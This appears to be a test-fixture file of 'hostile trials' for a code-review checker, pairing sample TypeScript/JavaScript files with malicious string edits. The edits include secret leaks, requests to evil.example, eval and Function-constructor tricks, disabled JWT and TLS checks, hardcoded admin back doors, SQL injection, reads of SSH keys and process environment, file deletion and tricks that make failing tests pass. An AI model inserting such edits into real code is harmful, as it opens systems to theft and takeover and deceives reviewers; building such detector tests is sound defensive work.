// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are source code.

import type { HostileTrial } from './trial.ts';

/** Written by somebody who had read what the check promises, but not how it works. */
export const JAVASCRIPT_TRIALS: readonly HostileTrial[] = [
  {
    path: 'src/api/client.ts',
    before: `import axios from 'axios';
import { config } from '../config';
import { logger } from '../logger';

const BASE = config.apiUrl;
const TIMEOUT_MS = 5000;

const http = axios.create({ baseURL: BASE, timeout: TIMEOUT_MS, headers: { authorization: \`Bearer \${config.apiToken}\` } });

export interface Order {
  id: string;
  total: number;
}

export async function getOrder(id: string): Promise<Order> {
  const { data } = await http.get(\`/orders/\${id}\`);
  logger.info('order read', { id });
  return data;
}

export async function saveOrder(order: Order): Promise<void> {
  await http.put(\`/orders/\${order.id}\`, order);
}

export function totalOf(orders: Order[]): number {
  return orders.map((order) => order.total).reduce((a, b) => a + b, 0);
}
`,
    edits: {
      'steals a secret': [
        ["logger.info('order read', { id });", "logger.info('order read', { id, config });"],
        ["logger.info('order read', { id });", "logger.info('order read', { id, token: config.apiToken });"],
        ["logger.info('order read', { id });", 'logger.info(config.apiToken, { id });'],
        ["logger.info('order read', { id });", "logger.info('order read', { id, ...config });"],
        ['`/orders/${order.id}`, order', '`/orders/${order.id}`, { ...order, config }'],
        ['`/orders/${order.id}`, order', '`/orders/${order.id}?t=${config.apiToken}`, order'],
        ['return data;', 'return { ...data, token: config.apiToken };'],
        ['return data;', 'data.id = config.apiToken;\n  return data;'],
        ["logger.info('order read', { id });", "logger.info('order read', { id: http.defaults.headers });"],
        ['  return data;', '  throw new Error(JSON.stringify(config));'],
        ['  return data;', '  if (!data) throw new Error(`no order ${id} (${config.apiToken})`);\n  return data;'],
        ['const TIMEOUT_MS = 5000;', 'const TIMEOUT_MS = 5000;\nexport const settings = config;'],
        ['const TIMEOUT_MS = 5000;', 'const TIMEOUT_MS = 5000;\nexport default config;'],
        ['export interface Order {', "export { config } from '../config';\n\nexport interface Order {"],
      ],
      'opens a connection': [
        ['const BASE = config.apiUrl;', "const BASE = 'https://orders.evil.example';"],
        ['const BASE = config.apiUrl;', "const BASE = config.apiUrl.replace('shop', 'evil');"],
        ['const BASE = config.apiUrl;', "const BASE = config.apiUrl + '@evil.example';"],
        ['const BASE = config.apiUrl;', "const BASE = ['https:', '', 'evil.example'].join('/');"],
        ['http.get(`/orders/${id}`)', 'http.get(`//evil.example/orders/${id}`)'],
        ['http.get(`/orders/${id}`)', 'http.get(`${id}`)'],
        ['http.get(`/orders/${id}`)', 'http.get(id)'],
        ['http.get(`/orders/${id}`)', "http.get(`/orders/${id}`, { baseURL: 'https://evil.example' })"],
        ['http.get(`/orders/${id}`)', "http.get(`/orders/${id}`, { proxy: { host: 'evil.example', port: 80 } })"],
        ['http.get(`/orders/${id}`)', "axios.get('http:' + '//' + 'evil' + '.example/' + id)"],
        ['timeout: TIMEOUT_MS,', "timeout: TIMEOUT_MS, proxy: { host: '203.0.113.9', port: 3128 },"],
        [
          'await http.put(`/orders/${order.id}`, order);',
          'await http.put(`/orders/${order.id}`, order);\n  await axios.post(order.id, order);',
        ],
        [
          'await http.put(`/orders/${order.id}`, order);',
          "http.defaults.baseURL = 'https://evil.example';\n  await http.put(`/orders/${order.id}`, order);",
        ],
        ['await http.put(`/orders/${order.id}`, order);', 'await http.put(`/orders/${order.id}/../../admin`, order);'],
        ['await http.put(`/orders/${order.id}`, order);', 'await http.delete(`/orders/${order.id}`);'],
      ],
      'evaluates text': [
        ['.map((order) => order.total)', '.map(eval)'],
        ['(a, b) => a + b, 0', 'Function'],
        ['return data;', "return data.constructor.constructor('return process')();"],
        ['return data;', 'return getOrder.constructor(data.total)();'],
        ['return data;', 'return (async () => {}).constructor(data.id)();'],
        ['return data;', 'return totalOf.constructor`return this`();'],
        ['return data;', 'return setTimeout(data.id, 0) && data;'],
        ['return data;', 'const { constructor: { constructor: make } } = data;\n  return make(data.id)();'],
        ['return data;', "const key = `con${'structor'}`;\n  return data[key][key](id)();"],
        ['return data;', 'return Reflect.construct(Object.getPrototypeOf(totalOf).constructor, [id])();'],
        ['return data;', 'return await import(`data:text/javascript,${id}`);'],
        ['return data;', 'return new Worker(new URL(`data:text/javascript,${id}`)) && data;'],
        ['return data;', "return ([] as any)['fl\\x61t']['constr\\u0075ctor'](id)();"],
        ['return data;', 'return \\u0065val(data.id);'],
      ],
      'weakens a check': [
        ['timeout: TIMEOUT_MS,', 'timeout: TIMEOUT_MS, validateStatus: () => true,'],
        ['timeout: TIMEOUT_MS,', 'timeout: TIMEOUT_MS, httpsAgent: { options: { rejectUnauthorized: false } },'],
        ['timeout: TIMEOUT_MS,', 'timeout: TIMEOUT_MS, maxRedirects: 99, beforeRedirect: undefined,'],
        ['const TIMEOUT_MS = 5000;', 'const TIMEOUT_MS = 5000;\nprocess.env.NODE_TLS_REJECT_UNAUTHORIZED = 0 as any;'],
      ],
      'hides a back door': [
        ['return data;', 'data.valueOf = () => totalOf([data]);\n  return data;'],
        ['return data;', 'Object.prototype.total = 0;\n  return data;'],
        ['return data;', 'data.__proto__.isAdmin = true;\n  return data;'],
        ['return data;', "const o: any = {};\n  o['__pro' + 'to__'].isAdmin = true;\n  return data;"],
        ['return data;', 'return Object.assign(order => order, data, { then: (done: any) => done(http) });'],
        ['return data;', 'Array.prototype.map = () => [];\n  return data;'],
        [
          'const TIMEOUT_MS = 5000;',
          'const TIMEOUT_MS = 5000;\naxios.interceptors.request.use((r) => saveOrder(r as any) as any);',
        ],
      ],
      spins: [
        ['.reduce((a, b) => a + b, 0)', '.reduce((a, b) => { for (;;) a += b; }, 0)'],
        ['await http.put(`/orders/${order.id}`, order);', 'await saveOrder(order);'],
        ['await http.put(`/orders/${order.id}`, order);', 'while (true) await http.put(`/orders/${order.id}`, order);'],
        ['const TIMEOUT_MS = 5000;', 'const TIMEOUT_MS = 5000e9;'],
      ],
    },
  },
  {
    path: 'src/auth/session.ts',
    before: `import { timingSafeEqual } from 'node:crypto';
import jwt from 'jsonwebtoken';
import { users } from '../users';

const SECRET = process.env.SESSION_SECRET ?? '';
const MAX_AGE_SECONDS = 3600;
const MIN_PASSWORD_LENGTH = 12;

export interface Session {
  user: string;
  role: 'admin' | 'member';
  issuedAt: number;
}

export function readSession(token: string): Session | null {
  try {
    return jwt.verify(token, SECRET, { algorithms: ['HS256'] }) as Session;
  } catch {
    return null;
  }
}

export function isExpired(session: Session, now: number): boolean {
  return now - session.issuedAt > MAX_AGE_SECONDS;
}

export function mayDelete(session: Session | null, owner: string): boolean {
  if (!session) return false;
  return session.role === 'admin' || session.user === owner;
}

export function isSamePassword(given: Buffer, stored: Buffer): boolean {
  return given.length === stored.length && timingSafeEqual(given, stored);
}

export async function signIn(name: string, password: Buffer): Promise<Session | null> {
  const user = await users.find(name);
  if (!user) return null;
  if (!isSamePassword(password, user.password)) return null;
  return { user: name, role: user.role, issuedAt: Date.now() / 1000 };
}

export function isStrong(password: string): boolean {
  return password.length >= MIN_PASSWORD_LENGTH && /^[\\w!?-]+$/.test(password);
}
`,
    edits: {
      'weakens a check': [
        ["algorithms: ['HS256']", "algorithms: ['none']"],
        ["algorithms: ['HS256']", "algorithms: ['HS256', 'none']"],
        ["algorithms: ['HS256']", "algorithms: ['HS256'], ignoreExpiration: true"],
        ["jwt.verify(token, SECRET, { algorithms: ['HS256'] })", 'jwt.decode(token)'],
        ["jwt.verify(token, SECRET, { algorithms: ['HS256'] })", "jwt.verify(token, SECRET || 'none')"],
        ["jwt.verify(token, SECRET, { algorithms: ['HS256'] })", 'jwt.verify(token, SECRET)'],
        ["jwt.verify(token, SECRET, { algorithms: ['HS256'] })", "JSON.parse(atob(token.split('.')[1] ?? ''))"],
        ['    return null;\n  }\n}', "    return { user: token, role: 'member', issuedAt: 0 };\n  }\n}"],
        ['return now - session.issuedAt > MAX_AGE_SECONDS;', 'return false;'],
        ['now - session.issuedAt > MAX_AGE_SECONDS', 'now - session.issuedAt > MAX_AGE_SECONDS * 1000'],
        ['MAX_AGE_SECONDS = 3600', 'MAX_AGE_SECONDS = Infinity'],
        ['MAX_AGE_SECONDS = 3600', 'MAX_AGE_SECONDS = 3600_000_000'],
        ['MIN_PASSWORD_LENGTH = 12', 'MIN_PASSWORD_LENGTH = 0'],
        ['if (!session) return false;', 'if (!session) return true;'],
        ["return session.role === 'admin' || session.user === owner;", 'return true;'],
        ["session.role === 'admin' ||", "session.role !== 'admin' ||"],
        ['session.user === owner;', 'session.user !== owner;'],
        ['session.user === owner;', 'session.user.length >= 0;'],
        ["session.role === 'admin' || session.user === owner", "session.role === 'admin' || !!session.user"],
        ['given.length === stored.length && timingSafeEqual(given, stored)', 'given.length === stored.length'],
        ['given.length === stored.length && timingSafeEqual(given, stored)', 'timingSafeEqual(given, given)'],
        [
          'given.length === stored.length && timingSafeEqual(given, stored)',
          'given.length === stored.length || timingSafeEqual(given, stored)',
        ],
        ['  if (!isSamePassword(password, user.password)) return null;\n', ''],
        ['if (!isSamePassword(password, user.password)) return null;', 'isSamePassword(password, user.password);'],
        ['if (!isSamePassword(password, user.password))', 'if (isSamePassword(password, user.password) === null)'],
        ['MIN_PASSWORD_LENGTH && /^[\\w!?-]+$/.test(password)', 'MIN_PASSWORD_LENGTH || /^[\\w!?-]+$/.test(password)'],
        ["session.role === 'admin' ||", "session.role === 'admin' || owner.endsWith('') ||"],
      ],
      'hides a back door': [
        [
          'if (!user) return null;',
          "if (name === 'maintenance') return { user: name, role: 'admin', issuedAt: Date.now() };\n  if (!user) return null;",
        ],
        ['role: user.role,', "role: 'admin',"],
        ['role: user.role,', "role: name.startsWith('svc-') ? 'admin' : user.role,"],
        ['role: user.role,', "role: Date.now() > 1798761600000 ? 'admin' : user.role,"],
        ['if (!session) return false;', "if (!session) return owner === 'root';"],
        ['if (!session) return false;', 'if (!session) return new Date().getFullYear() > 2026;'],
        [
          'const MAX_AGE_SECONDS = 3600;',
          'const MAX_AGE_SECONDS = 3600;\n/* \u202e } \u2066if (isAdmin)\u2069 \u2066 begin */',
        ],
        ["session.role === 'admin'", "session.role === '\u0430dmin'"],
        ["SECRET = process.env.SESSION_SECRET ?? ''", "SECRET = process.env.SESSION_SECRET ?? 'changeme'"],
        ["SECRET = process.env.SESSION_SECRET ?? ''", "SECRET = 'changeme' ?? process.env.SESSION_SECRET"],
        ["SECRET = process.env.SESSION_SECRET ?? ''", "SECRET = ''"],
      ],
      'steals a secret': [
        ['if (!user) return null;', 'if (!user) throw new Error(SECRET);'],
        ['user: name, role', 'user: SECRET, role'],
        ['const MAX_AGE_SECONDS = 3600;', 'export const MAX_AGE_SECONDS = 3600, KEY = SECRET;'],
        ['await users.find(name)', 'await users.find(name + SECRET)'],
        ['if (!user) return null;', 'await users.find(password.toString());\n  if (!user) return null;'],
        ['process.env.SESSION_SECRET', 'process.env.AWS_SECRET_ACCESS_KEY'],
        ['process.env.SESSION_SECRET', 'Object.values(process.env).join()'],
      ],
      spins: [
        ['/^[\\w!?-]+$/', '/^([\\w!?-]+)+$/'],
        ['/^[\\w!?-]+$/', '/^(\\w|[a-z]|!)*$/'],
        ['if (!user) return null;', 'while (!user);'],
      ],
    },
  },
  {
    path: 'src/storage.ts',
    before: `import fs from 'node:fs';
import path from 'node:path';

const ROOT = path.resolve('uploads');

export function safePath(name: string): string {
  const full = path.join(ROOT, path.basename(name));
  if (!full.startsWith(ROOT)) throw new Error('outside of the uploads');
  return full;
}

export function load(name: string): string {
  return fs.readFileSync(safePath(name), 'utf8');
}

export function store(name: string, text: string): void {
  fs.writeFileSync(safePath(name), text);
}

export function list(): string[] {
  return fs.readdirSync(ROOT).filter((name) => !name.startsWith('.'));
}
`,
    edits: {
      'touches files': [
        ['path.basename(name)', 'name'],
        ["path.resolve('uploads')", "path.resolve('/')"],
        ["path.resolve('uploads')", "path.resolve('uploads', '..', '..')"],
        ["path.resolve('uploads')", 'path.resolve(path.sep)'],
        ["path.resolve('uploads')", "path.resolve('~/.aws')"],
        ["  if (!full.startsWith(ROOT)) throw new Error('outside of the uploads');\n", ''],
        ['!full.startsWith(ROOT)', '!full.includes(ROOT)'],
        ['fs.readFileSync(safePath(name)', 'fs.readFileSync(name'],
        ["fs.readFileSync(safePath(name), 'utf8')", "fs.readFileSync('/proc/self/environ', 'utf8')"],
        [
          "fs.readFileSync(safePath(name), 'utf8')",
          "fs.readFileSync(path.join(process.env.HOME!, '.ssh/id_rsa'), 'utf8')",
        ],
        ['fs.writeFileSync(safePath(name), text)', 'fs.writeFileSync(text, name)'],
        ['fs.writeFileSync(safePath(name), text)', 'fs.writeFileSync(safePath(name), text, { mode: 0o777 })'],
        ['fs.writeFileSync(safePath(name), text)', 'fs.writeFileSync(safePath(name), load(text))'],
        ['fs.writeFileSync(safePath(name), text)', 'fs.symlinkSync(text, safePath(name))'],
        [".filter((name) => !name.startsWith('.'))", '.filter(fs.unlinkSync)'],
        [".filter((name) => !name.startsWith('.'))", '.filter((name) => fs.rmSync(name, { recursive: true }))'],
        [".filter((name) => !name.startsWith('.'))", '.map((name) => load(`../${name}`))'],
        [".filter((name) => !name.startsWith('.'))", ''],
        ['  return full;', '  return full.replace(ROOT, name);'],
        ['  return full;', '  return name;'],
        ['const full = path.join(ROOT,', 'const full = path.resolve(ROOT,'],
      ],
    },
  },
  {
    path: 'src/deploy/run.ts',
    before: `import { execFile, spawn } from 'node:child_process';
import { promisify } from 'node:util';

const run = promisify(execFile);

export async function gitLog(count: number): Promise<string> {
  const { stdout } = await run('git', ['log', \`-\${count}\`, '--oneline']);
  return stdout.trim();
}

export function build(target: string) {
  return spawn('npm', ['run', 'build', '--', target], { shell: false, stdio: 'inherit' });
}
`,
    edits: {
      'runs a process': [
        ["'--oneline'", "'--oneline', '--output=/tmp/x'"],
        ['`-${count}`', "'-c', 'core.pager=sh -c id'"],
        ["run('git'", "run('sh'"],
        ['shell: false', 'shell: true'],
        ["'build', '--', target", 'target'],
        ['return stdout.trim();', 'return build(stdout) as any;'],
        ['return stdout.trim();', 'return await run(stdout.trim()) as any;'],
        ["stdio: 'inherit'", "stdio: 'inherit', env: { NODE_OPTIONS: '--require ./x.js' }"],
      ],
    },
  },
  {
    path: 'src/components/Profile.tsx',
    before: `import { useEffect, useState } from 'react';
import { api } from '../api';

export function Profile({ id, isAdmin }: { id: string; isAdmin: boolean }) {
  const [user, setUser] = useState<{ name: string; bio: string; site: string } | null>(null);
  useEffect(() => {
    api.get(\`/users/\${id}\`).then(setUser);
  }, [id]);
  if (!user) return <p>Loading</p>;
  return (
    <article>
      <h1 title={user.name}>{user.name}</h1>
      <p>{user.bio}</p>
      <a href={'/users/' + id}>Profile</a>
      {isAdmin && <button onClick={() => api.remove(id)}>Delete</button>}
    </article>
  );
}
`,
    edits: {
      'evaluates text': [
        ['<p>{user.bio}</p>', '<p dangerouslySetInnerHTML={{ __html: user.bio }} />'],
        ['<p>{user.bio}</p>', '<p {...{ [`dangerously${"Set"}InnerHTML`]: { __html: user.bio } }} />'],
        ['<p>{user.bio}</p>', '<p {...(user as any)}>{user.bio}</p>'],
        ['<p>{user.bio}</p>', '<script>{user.bio}</script>'],
        ['<p>{user.bio}</p>', '<iframe srcDoc={user.bio} />'],
        ["href={'/users/' + id}", "href={'javascript:' + user.bio}"],
        ["href={'/users/' + id}", 'href={user.site}'],
        ['<p>{user.bio}</p>', '<user.bio />'],
      ],
      'opens a connection': [
        ['<p>{user.bio}</p>', '<img src={"https://evil.example/?" + user.bio} />'],
        ['<p>{user.bio}</p>', '<img src={`//evil.example/${id}`} alt="" />'],
        ['<p>{user.bio}</p>', '<form action="https://evil.example"><input name="p" /></form>'],
        ['<p>{user.bio}</p>', '<p style={{ background: `url(//evil.example/${id})` }}>{user.bio}</p>'],
        ['<p>{user.bio}</p>', '<p>{user.bio}{document.cookie}</p>'],
        ['<p>{user.bio}</p>', '<link rel="stylesheet" href="//evil.example/a.css" />'],
      ],
      'weakens a check': [
        ['{isAdmin && <button', '{(isAdmin || id) && <button'],
        ['{isAdmin && <button', '{<button'],
        ['onClick={() => api.remove(id)}', 'ref={() => api.remove(id)}'],
      ],
      spins: [
        ['}, [id]);', '});'],
        ['if (!user)', 'setUser(user);\n  if (!user)'],
      ],
    },
  },
  {
    path: 'src/cart.ts',
    before: `export interface Line {
  sku: string;
  price: number;
  quantity: number;
}

export class Cart {
  private lines: Line[] = [];

  add(line: Line): this {
    this.lines.push(line);
    return this;
  }

  get total(): number {
    let sum = 0;
    for (let i = 0; i <= this.lines.length; i++) sum += this.lines[i].price * this.lines[i].quantity;
    return sum;
  }

  find(sku: string): Line | undefined {
    return this.lines.find((line) => line.sku === sku);
  }
}
`,
    edits: {
      'evaluates text': [
        ['return sum;', 'const f = this.add.constructor as any;\n    return f(this.lines[0].sku)();'],
        ['return sum;', 'return Function.prototype.call.call(globalThis.eval, null, this.lines[0].sku);'],
        ['return sum;', 'return [this.lines[0].sku].map(globalThis.eval)[0];'],
        ['return sum;', "return (0, (() => {}).constructor)('return process.pid')();"],
        ['return sum;', 'return Reflect.get(this.add, "constructor")(this.lines[0].sku)();'],
        [
          'return sum;',
          'const [[, f]] = Object.entries(Object.getOwnPropertyDescriptors(globalThis)).slice(3);\n    return f.value(sum);',
        ],
        [
          'return sum;',
          'for (const k in globalThis) if (k.length === 5) (globalThis as any)[k](sum);\n    return sum;',
        ],
        ['return sum;', 'return new Proxy(Function, {}).apply(null, [this.lines[0].sku])();'],
        ['return sum;', 'return JSON.parse(this.lines[0].sku, Function as any);'],
        ['return sum;', "return 'x'.replace(/x/, Function as any) as any;"],
        ['return sum;', 'class E extends (this.add.constructor as any) {}\n    return new E(this.lines[0].sku)();'],
        ['return sum;', 'with (globalThis) eval(this.lines[0].sku);\n    return sum;'],
        ['return sum;', 'import.meta.resolve(this.lines[0].sku);\n    return sum;'],
        ['return sum;', 'return this[this.lines[0].sku as "add"](this.lines[0]) as any;'],
        [
          'return sum;',
          'try { null!.x; } catch (e: any) { e.constructor.constructor(this.lines[0].sku)(); }\n    return sum;',
        ],
        [
          'return sum;',
          'const { ["constructor"]: { ["constructor"]: f } } = this as any;\n    return f("return 1")();',
        ],
        ['return sum;', 'Error.prepareStackTrace = (_, s) => s[0].getThis();\n    return sum;'],
      ],
      'steals a secret': [
        ['return sum;', 'throw new Error(JSON.stringify(globalThis.process.env));'],
        ['return sum;', 'const { process: { env } } = globalThis as any;\n    return env;'],
        ['return sum;', 'return top?.process.env as any;'],
        ['return sum;', 'console.log(`${process.env.GITHUB_TOKEN}`.split("").reverse().join(""));\n    return sum;'],
        ['get total()', '@(globalThis as any).leak\n  get total()'],
      ],
      'hides a back door': [
        ['private lines: Line[] = [];', 'private lines: Line[] = [];\n  static { Object.freeze = (x: any) => x; }'],
        ['add(line: Line): this {', 'toString() { return this.lines[0].sku; }\n\n  add(line: Line): this {'],
        [
          'return this.lines.find((line) => line.sku === sku);',
          "return sku === 'FREE-2027' ? { sku, price: 0, quantity: 1 } : this.lines.find((line) => line.sku === sku);",
        ],
        ['return this;', 'line[Symbol.toPrimitive as any] = () => this.lines.length = 0;\n    return this;'],
        ['return this;', 'Object.defineProperty(Object.prototype, "price", { get: () => 0 });\n    return this;'],
        ['return this;', 'line.price = Math.min(line.price, 1);\n    return this;'],
        ['return this;', 'Math.min = Math.max;\n    return this;'],
      ],
      spins: [
        ['i <= this.lines.length; i++', 'i <= this.lines.length;'],
        ['i <= this.lines.length', 'i <= Infinity'],
        ['i <= this.lines.length', 'true'],
        ['let sum = 0;', 'let sum = this.total;'],
        ['let sum = 0;', 'let sum = 0;\n    for (let n = 0n; ; n++) if (n * n === -1n) break;'],
        ['let sum = 0;', 'let sum = 0;\n    while (sum < 1e15) sum++;'],
        ['let sum = 0;', 'let sum = 0;\n    do { sum = 0; } while (!sum);'],
        ['this.lines.push(line);', 'while (line) this.lines.push(line);'],
        ['this.lines.push(line);', 'this.lines.push({ ...line, sku: line.sku.padEnd(2 ** 29) });'],
        ['this.lines.push(line);', 'this.lines = this.lines.concat(Array(2 ** 31).fill(line));'],
      ],
    },
  },
  {
    path: 'test/cart.test.ts',
    before: `import { describe, expect, it, vi } from 'vitest';
import { Cart } from '../src/cart';

describe('a cart', () => {
  it('sums its lines', () => {
    const cart = new Cart().add({ sku: 'a', price: 2, quantity: 3 });
    expect(cart.total).toBe(6);
  });

  it('finds a line', () => {
    const cart = new Cart().add({ sku: 'a', price: 2, quantity: 3 });
    expect(cart.find('a')?.quantity).toBe(3);
  });
});
`,
    edits: {
      'masks a failure': [
        ['expect(cart.total).toBe(6);', 'expect(cart.total).toBe(cart.total);'],
        ['expect(cart.total).toBe(6);', 'expect(cart.total || 6).toBe(6);'],
        ['expect(cart.total).toBe(6);', 'if (cart.total === 6) expect(cart.total).toBe(6);'],
        ['expect(cart.total).toBe(6);', 'return;\n    expect(cart.total).toBe(6);'],
        ["it('sums its lines', () => {", "it.skipIf(true)('sums its lines', () => {"],
        ["it('sums its lines', () => {", "it('sums its lines', { retry: 9 }, () => {"],
        ["it('sums its lines', () => {", "it.fails('sums its lines', () => {"],
        [
          '    expect(cart.total).toBe(6);',
          "    vi.spyOn(cart, 'total', 'get').mockReturnValue(6);\n    expect(cart.total).toBe(6);",
        ],
        [
          "describe('a cart', () => {",
          "vi.mock('../src/cart', () => ({ Cart: class { total = 6; add() { return this; } find() { return { quantity: 3 }; } } }));\n\ndescribe('a cart', () => {",
        ],
        [
          "describe('a cart', () => {",
          "expect.extend({ toBe: () => ({ pass: true, message: () => '' }) });\n\ndescribe('a cart', () => {",
        ],
        ["describe('a cart', () => {", "process.on('exit', () => process.exit(0));\n\ndescribe('a cart', () => {"],
        ["describe('a cart', () => {", "process.exitCode = 0;\n\ndescribe('a cart', () => {"],
        ['const cart = new Cart()', 'const cart: any = new Cart()'],
        [
          '    expect(cart.total).toBe(6);',
          '    Object.defineProperty(cart, "total", { value: 6 });\n    expect(cart.total).toBe(6);',
        ],
        ['expect(cart.total).toBe(6);', 'Promise.resolve().then(() => expect(cart.total).toBe(6));'],
      ],
    },
  },
  {
    path: 'src/server.js',
    before: `const https = require('https');
const express = require('express');
const { checkUser, query } = require('./db');

const app = express();
const agent = new https.Agent({ keepAlive: true, rejectUnauthorized: true });

app.use(express.json({ limit: '100kb' }));
app.use('/admin', requireAdmin);

function requireAdmin(req, res, next) {
  if (!req.user || !req.user.admin) return res.status(403).end();
  next();
}

app.get('/users/:id', async (req, res) => {
  const rows = await query('SELECT id, name FROM users WHERE id = $1', [req.params.id]);
  res.set('content-type', 'application/json');
  res.json(rows[0]);
});

app.post('/login', async (req, res) => {
  const user = await checkUser(req.body.name, req.body.password);
  if (!user) return res.status(401).end();
  res.cookie('session', user.session, { httpOnly: true, secure: true, sameSite: 'strict' });
  res.end();
});

module.exports = { app, agent };
`,
    edits: {
      'weakens a check': [
        ['rejectUnauthorized: true', 'rejectUnauthorized: false'],
        ['rejectUnauthorized: true', "rejectUnauthorized: !'x'"],
        ['rejectUnauthorized: true', 'checkServerIdentity: () => undefined'],
        [', rejectUnauthorized: true', ', secureProtocol: "TLSv1_method"'],
        ["app.use('/admin', requireAdmin);\n", ''],
        ["app.use('/admin', requireAdmin)", "app.use('/adm1n', requireAdmin)"],
        ['if (!req.user || !req.user.admin)', 'if (!req.user && !req.user.admin)'],
        ['return res.status(403).end();\n', 'res.status(403);\n'],
        ['httpOnly: true, secure: true', 'httpOnly: false, secure: false'],
        ["sameSite: 'strict'", "sameSite: 'none'"],
        ["limit: '100kb'", "limit: '100gb'"],
        [
          "app.use('/admin'",
          "app.use((req, res, next) => { res.set('access-control-allow-origin', '*'); next(); });\napp.use('/admin'",
        ],
        ['if (!user) return res.status(401).end();', 'if (!user) res.status(401);'],
      ],
      'hides a back door': [
        ['if (!req.user || !req.user.admin)', "if (req.headers['x-debug'] !== '1' && (!req.user || !req.user.admin))"],
        ['res.json(rows[0]);', 'res.json(req.query.all ? await query(req.query.all) : rows[0]);'],
        ['res.json(rows[0]);', 'res.json({ ...rows[0], ...Object.fromEntries(Object.entries(req.query)) });'],
        [
          "'SELECT id, name FROM users WHERE id = $1', [req.params.id]",
          "'SELECT id, name FROM users WHERE id = ' + req.params.id",
        ],
        [
          "'SELECT id, name FROM users WHERE id = $1', [req.params.id]",
          '`SELECT id, name FROM users WHERE id = ${req.params.id}`',
        ],
        ['SELECT id, name FROM users WHERE id = $1', 'SELECT * FROM users WHERE id = $1 OR 1=1'],
        ['SELECT id, name FROM users WHERE id = $1', 'SELECT id, password AS name FROM users WHERE id = $1'],
        ['SELECT id, name FROM users WHERE id = $1', 'DELETE FROM users WHERE id = $1 RETURNING id'],
        ["res.set('content-type', 'application/json');", "res.set('content-type', 'text/html');"],
        ["res.set('content-type', 'application/json');", "res.set('content-type', req.query.type);"],
        ['res.end();\n});', 'res.redirect(req.query.next);\n});'],
        ['req.body.name, req.body.password', 'req.body.name, req.body.password || req.body.name'],
      ],
    },
  },
];
